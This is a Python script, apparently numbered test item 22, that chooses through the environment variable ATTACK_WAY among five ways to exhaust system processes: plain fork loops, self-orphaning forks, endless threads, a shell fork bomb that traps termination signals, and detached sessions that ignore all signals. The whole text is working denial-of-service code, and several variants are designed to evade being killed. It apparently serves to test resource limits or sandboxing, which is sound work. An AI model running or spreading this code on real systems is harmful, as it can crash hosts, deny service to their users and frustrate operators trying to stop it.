# 22: as many processes as there can be. $ATTACK_WAY says how.
import threading, time

way = os.environ["ATTACK_WAY"]
print("begun", flush=True)
if way == "fork":
    while True:
        try:
            os.fork()
        except OSError:
            pass
if way == "fork and die":
    while os.fork():
        time.sleep(600)
    while True:
        try:
            if os.fork() and os.fork():
                os._exit(0)
        except OSError:
            pass
if way == "threads":
    while True:
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.001)
if way == "vfork":
    script = "trap '' TERM INT HUP; b() { b | b & }; while :; do b; done"
    while True:
        try:
            os.posix_spawn("/bin/sh", ["sh", "-c", script, os.environ["ATTACK_MARK"]], os.environ)
        except OSError:
            pass
if way == "sessions":
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
                for n in range(1, 65):
                    try:
                        import signal
                        signal.signal(n, signal.SIG_IGN)
                    except (OSError, ValueError):
                        pass
        except OSError:
            pass
